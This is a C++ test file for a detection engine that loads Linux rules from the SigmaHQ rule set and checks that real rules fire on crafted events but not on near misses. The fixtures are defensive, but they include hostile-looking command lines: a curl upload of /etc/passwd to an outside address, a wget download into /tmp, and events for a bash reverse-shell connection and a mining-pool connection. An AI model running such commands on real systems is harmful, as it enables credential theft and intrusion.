// The SigmaHQ compatibility corpus (../shared/sigma beside the checkout): every
// Linux process_creation / file_event / network_connection rule loads, the
// rest is skipped (not refused) and nothing crashes; real rules fire on
// crafted events and stay quiet on near misses.
#include <catch2/catch.hpp>
#include <filesystem>
#include <set>

#include "test_util.h"

namespace mamori::behavior::rules {
namespace {

namespace fs = std::filesystem;

bool HaveCorpus() {
  std::error_code ec;
  if (fs::is_directory(MAMORI_SHARED_SIGMA, ec)) return true;
  WARN("SigmaHQ corpus not found at " MAMORI_SHARED_SIGMA "; skipped");
  return false;
}

struct Corpus {
  LoadReport report;
  std::shared_ptr<const RuleSet> set;
};

const Corpus& LoadCorpus() {
  static const Corpus* corpus = [] {
    auto* c = new Corpus;
    auto set = RuleSet::Load({MAMORI_SHARED_SIGMA}, &c->report);
    REQUIRE(set.ok());
    c->set = *set;
    return c;
  }();
  return *corpus;
}

// The files whose rules Mamori must load: Linux rules of the three Sigma
// categories it feeds.
std::set<std::string> ExpectedFiles() {
  std::set<std::string> files;
  const fs::path root = MAMORI_SHARED_SIGMA;
  for (const char* dir : {"rules/linux/process_creation", "rules/linux/file_event", "rules/linux/network_connection",
                          "rules-threat-hunting/linux"}) {
    std::error_code ec;
    for (fs::recursive_directory_iterator it(root / dir, ec), end; !ec && it != end; it.increment(ec)) {
      if (it->is_regular_file() && it->path().extension() == ".yml") files.insert(it->path().string());
    }
  }
  return files;
}

TEST_CASE("every SigmaHQ linux process_creation, file_event and network_connection rule loads") {
  if (!HaveCorpus()) return;
  const Corpus& c = LoadCorpus();
  INFO(c.report.ToText());
  CHECK(c.report.refused == 0);
  std::set<std::string> loaded;
  for (const auto& info : c.set->rules()) {
    loaded.insert(info->file);
    CHECK((info->category == "process_creation" || info->category == "file_event" ||
           info->category == "network_connection"));
  }
  const std::set<std::string> expected = ExpectedFiles();
  CHECK(expected.size() == 139);
  for (const std::string& f : expected) {
    INFO(f);
    CHECK(loaded.count(f) == 1);
  }
  CHECK(c.report.loaded == 139);
  // Everything else is another log source: skipped with the reason.
  int windows = 0, auditd = 0;
  for (const auto& item : c.report.skipped_items) {
    CHECK_THAT(item.reason, Catch::StartsWith("unsupported logsource ("));
    windows += item.reason == "unsupported logsource (product: windows)";
    auditd += item.reason == "unsupported logsource (service: auditd)";
  }
  CHECK(windows == 2);
  CHECK(auditd > 0);
}

struct Spot {
  const char* rule_id;
  Event hit;
  Event miss;
};

TEST_CASE("real SigmaHQ rules fire on crafted events and not on near misses") {
  if (!HaveCorpus()) return;
  using testing::Exec;
  using testing::MakeEvent;
  const Spot kSpots[] = {
      // Linux Reverse Shell Indicator: bash connecting out, unless to localhost.
      {"83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871",
       MakeEvent(EventType::kNetConnect, {{"Image", "/bin/bash"}, {"DestinationIp", "10.0.0.1"}}),
       MakeEvent(EventType::kNetConnect, {{"Image", "/bin/bash"}, {"DestinationIp", "127.0.0.1"}})},
      // Linux Crypto Mining Pool Connections.
      {"a46c93b7-55ed-4d27-a41b-c259456c4746",
       MakeEvent(EventType::kNetConnect, {{"Image", "/tmp/x"}, {"DestinationHostname", "pool.minexmr.com"}}),
       MakeEvent(EventType::kNetConnect, {{"Image", "/tmp/x"}, {"DestinationHostname", "pool.minexmr.com.example"}})},
      // Download File To Potentially Suspicious Directory Via Wget (case-sensitive regex -O).
      {"cf610c15-ed71-46e1-bdf8-2bd1a99de6c4",
       Exec({{"Image", "/usr/bin/wget"}, {"CommandLine", "wget http://203.0.113.7/a -O /tmp/a"}}),
       Exec({{"Image", "/usr/bin/wget"}, {"CommandLine", "wget http://203.0.113.7/a -o /tmp/wget.log"}})},
      // Suspicious Curl File Upload, and its localhost filter.
      {"00b90cc1-17ec-402c-96ad-3a8117d7a582",
       Exec({{"Image", "/usr/bin/curl"}, {"CommandLine", "curl -F f=@/etc/passwd https://203.0.113.7/u"}}),
       Exec({{"Image", "/usr/bin/curl"}, {"CommandLine", "curl -F f=@/etc/passwd http://localhost/u"}})},
      // OMIGOD SCX RunAsProvider ExecuteScript (LogonId: 0).
      {"6eea1bf6-f8d2-488a-a742-e6ef6c1b67db",
       Exec({{"User", "root"},
             {"Uid", "0"},
             {"CurrentDirectory", "/var/opt/microsoft/scx/tmp"},
             {"CommandLine", "sh /etc/opt/microsoft/scx/conf/tmpdir/scx-1234"}}),
       Exec({{"User", "root"},
             {"Uid", "1000"},
             {"CurrentDirectory", "/var/opt/microsoft/scx/tmp"},
             {"CommandLine", "sh /etc/opt/microsoft/scx/conf/tmpdir/scx-1234"}})},
      // New Cron File Created, and its filter for distribution files.
      {"6c4e2f43-d94d-4ead-b64d-97e53fa2bd05",
       MakeEvent(EventType::kFileCreate, {{"TargetFilename", "/etc/cron.d/updater"}}),
       MakeEvent(EventType::kFileCreate, {{"TargetFilename", "/etc/cron.daily/apt"}})},
      // File and Directory Discovery: `file` with a 200+ character command line (regex (.){200,}).
      {"d3feb4ee-ff1d-4d3d-bd10-5b28a238cc72",
       Exec({{"Image", "/usr/bin/file"}, {"CommandLine", "file " + std::string(220, 'x')}}),
       Exec({{"Image", "/usr/bin/file"}, {"CommandLine", "file /etc/passwd"}})},
  };
  const Corpus& c = LoadCorpus();
  for (const Spot& s : kSpots) {
    INFO("rule " << s.rule_id);
    auto fired = [&](const Event& e) {
      for (const Alert& a : testing::Run(c.set, {e})) {
        if (a.rule->id == s.rule_id) return true;
      }
      return false;
    };
    CHECK(fired(s.hit));
    CHECK_FALSE(fired(s.miss));
  }
}

}  // namespace
}  // namespace mamori::behavior::rules
